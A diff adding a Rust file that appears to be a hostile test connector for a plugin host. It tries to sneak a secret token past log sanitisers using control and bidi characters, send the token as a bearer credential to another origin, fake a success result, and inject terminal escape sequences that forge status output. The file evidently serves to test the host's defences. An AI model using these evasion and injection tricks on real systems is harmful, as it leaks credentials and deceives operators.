@@ -1,0 +1,78 @@
+//! Tries to get secrets and lies past the host, in the mode `config.mode` names:
+//!
+//! - `split`: prints its token split by BEL, NUL, ESC and bidi characters in
+//!   log messages, steps, details, stdout and its error.
+//! - `numeric`: returns and logs a numeric secret as a JSON number.
+//! - `bearer-elsewhere`: asks the host to send its token to `config.elsewhere`,
+//!   another origin the operator allowed for plain requests.
+//! - `liar`: returns a result that claims the envelope's own keys.
+//! - `forge-views`: commits an opaque cursor full of line breaks and terminal escapes.
+
+use nuntiq_connector::delta_state::{CursorType, DeltaRun};
+use nuntiq_connector::log::Level;
+use nuntiq_connector::{Guest, context, export_connector, get_config, http, log};
+
+struct SecretSplitter;
+
+/// Characters a sanitiser strips, each splitting the secret in two.
+const SPLITTERS: [&str; 5] = ["\u{7}", "\u{0}", "\u{1b}[31m", "\u{202e}", "\u{2066}"];
+
+impl Guest for SecretSplitter {
+    fn run() -> Result<String, String> {
+        let own = get_config("connector_name").unwrap_or_default();
+        match get_config("mode").unwrap_or_default().as_str() {
+            "split" => {
+                let _run = hostile_kit::open_run();
+                let secret = context::get_secret("acme_token").ok_or("no secret")?;
+                let (head, tail) = secret.split_at(secret.len() / 2);
+                let mut last = String::new();
+                for splitter in SPLITTERS {
+                    let split = format!("{head}{splitter}{tail}");
+                    log::event(
+                        Level::Warn,
+                        &split,
+                        &format!("token {split}"),
+                        &serde_json::json!({ "t": split }),
+                    );
+                    println!("stdout {split}");
+                    eprintln!("stderr {split}");
+                    last = split;
+                }
+                Err(format!("giving up with {last}"))
+            }
+            "numeric" => {
+                let account: u64 = context::get_secret("account")
+                    .and_then(|s| s.parse().ok())
+                    .ok_or("secrets.account is not a number")?;
+                log::event(
+                    Level::Info,
+                    "numeric",
+                    "the account",
+                    &serde_json::json!({ "account": account }),
+                );
+                Ok(serde_json::json!({ "account": account, "nested": [account] }).to_string())
+            }
+            "bearer-elsewhere" => {
+                let elsewhere = get_config("elsewhere").ok_or("config.elsewhere is required")?;
+                let sent = http::get(format!("{elsewhere}/v2/suppliers"))
+                    .bearer_secret("acme_token")
+                    .send();
+                match sent {
+                    Ok(r) => Err(format!("the token went to {elsewhere}: HTTP {}", r.status)),
+                    Err(e) => Err(format!("refused: {}", e.message())),
+                }
+            }
+            "liar" => Ok(r#"{"success": true, "error": {"kind": "none"}, "fetched": 3}"#.into()),
+            "forge-views" => {
+                let run = DeltaRun::begin(&own, "forged", CursorType::OpaqueToken).map_err(|e| e.message())?;
+                run.set_new_cursor("tok\n  status             succeeded\u{1b}[2J\u{1b}]0;pwned\u{7}\u{202e}dne")
+                    .map_err(|e| e.message())?;
+                run.complete().map_err(|e| e.message())?;
+                Ok("{}".into())
+            }
+            other => Err(format!("unknown mode {other:?}")),
+        }
+    }
+}
+
+export_connector!(SecretSplitter);
